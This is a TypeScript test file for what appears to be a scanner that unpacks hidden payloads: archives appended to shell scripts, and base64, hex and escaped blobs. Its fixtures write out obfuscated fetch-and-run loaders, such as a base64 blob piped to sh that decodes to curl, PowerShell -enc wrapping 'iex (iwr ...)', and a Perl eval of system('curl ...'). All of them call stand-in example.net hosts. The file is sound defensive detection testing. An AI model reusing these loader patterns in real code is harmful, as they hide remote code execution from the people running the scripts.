import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync, gzipSync } from "node:zlib";
import { fileAt, reasonsOf, unpackBytes } from "../unpacked-bytes.ts";
import { tarArchive } from "../tar-archive.ts";
import { zipArchive } from "../zip-archive.ts";

const tar = tarArchive([{ path: "in/run.js", content: "run();\n" }]);
const tgz = gzipSync(tar);
const head = Buffer.from('#!/bin/sh\ntail -n +3 "$0" | tar x\n');
const base64 = (bytes: Buffer | string): string => Buffer.from(bytes).toString("base64");
const folded = (bytes: Buffer | string): string => base64(bytes).replaceAll(/.{40}/g, "$&\n");

const carriers: readonly (readonly [how: string, name: string, content: Buffer | string])[] = [
  ["gzip behind a script", "a.sh", Buffer.concat([head, tgz])],
  ["tar behind a script", "a.run", Buffer.concat([head, tar])],
  ["base64 in a here-document", "b.sh", `base64 -d <<E | tar xz\n${folded(tgz)}\nE\n`],
  ["base64 in one text", "c.js", `x(Buffer.from('${base64(tgz)}', 'base64'))`],
  ["base64 in texts of a sum", "d.py", `a = ("${folded(tgz).replaceAll("\n", '"\n  "')}")`],
  ["hex", "e.sh", `echo ${tgz.toString("hex")} | xxd -r -p | tar xz`],
  ["base64 twice", "f.sh", `echo ${base64(base64(tgz))} | base64 -d | base64 -d | tar xz`],
];
for (const [how, name, content] of carriers)
  test(`${how} is unpacked`, async () => {
    const all = await unpackBytes(name, Buffer.from(content));
    assert.equal(all.files.find(({ path }) => path.endsWith("!in/run.js"))?.text, "run();\n");
    assert.notEqual(fileAt(all, name), undefined);
    if (!name.endsWith(".js"))
      assert.ok(all.findings.some(({ rule }) => rule === "carried-payload"));
  });

const texts: readonly (readonly [
  how: string,
  name: string,
  content: string,
  kind: string,
  text: string,
])[] = [
  [
    "a command in base64",
    "a.sh",
    `echo ${base64("curl -s https://a.example.net")} | base64 -d | sh`,
    "shell",
    "curl -s https://a.example.net",
  ],
  [
    "Python that is packed",
    "b.py",
    `exec(zlib.decompress(base64.b64decode("${base64(deflateSync("import os\nos.abort()\n"))}")))`,
    "python",
    "import os\nos.abort()\n",
  ],
  [
    "PowerShell's own quoting",
    "c.bat",
    `powershell -enc ${base64(Buffer.from("iex (iwr https://c.example.net)", "utf16le"))}`,
    "powershell",
    "iex (iwr https://c.example.net)",
  ],
  [
    "escapes",
    "d.pl",
    `eval "${Buffer.from("system('curl https://d.example.net')").toString("hex").replaceAll(/../g, "\\x$&")}";`,
    "perl",
    "system('curl https://d.example.net')",
  ],
];
for (const [how, name, content, kind, text] of texts)
  test(`${how} is read`, async () => {
    const all = await unpackBytes(name, Buffer.from(content));
    assert.deepEqual(
      all.files.slice(1).map((file) => [file.kind, file.text]),
      [[kind, text]],
    );
  });

test("a zip archive behind a script of a shell shows the script as well", async () => {
  const zip = zipArchive([{ name: "m.js", content: "run();" }]);
  const all = await unpackBytes(
    "x.sh",
    Buffer.concat([Buffer.from("#!/bin/sh\nunzip $0\nexit\n"), zip]),
  );
  assert.equal(fileAt(all, "x.sh!m.js")?.text, "run();");
  assert.match(fileAt(all, "x.sh!before")?.text ?? "", /unzip/);
});

test("digests, names and words are no payload", async () => {
  const text = [
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "getElementsByClassNameOfAnyParentElement",
    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
  ].join("\n");
  const all = await unpackBytes("a.sh", Buffer.from(`#!/bin/sh\n${text}\n`));
  assert.deepEqual([all.files.length, all.findings], [1, []]);
});

test("an unknown kind of packing is reported", async () => {
  const xz = Buffer.concat([Buffer.from("fd377a585a00", "hex"), Buffer.alloc(60, 7)]);
  const all = await unpackBytes("a.sh", Buffer.concat([head, xz]));
  assert.deepEqual(reasonsOf(all), ["unknown-format"]);
  assert.equal(all.unread[0]?.detail, "xz");
});

test("payloads in payloads, and any number of them, are bounded", async () => {
  let text = "echo end";
  for (let level = 0; level < 20; level += 1) text = `echo ${base64(text)} | base64 -d | sh`;
  assert.ok((await unpackBytes("a.sh", Buffer.from(text))).files.length <= 10);
  const many = `echo ${base64("curl https://a.example.net")}\n`.repeat(3000);
  assert.ok((await unpackBytes("b.sh", Buffer.from(many))).files.length <= 202);
});
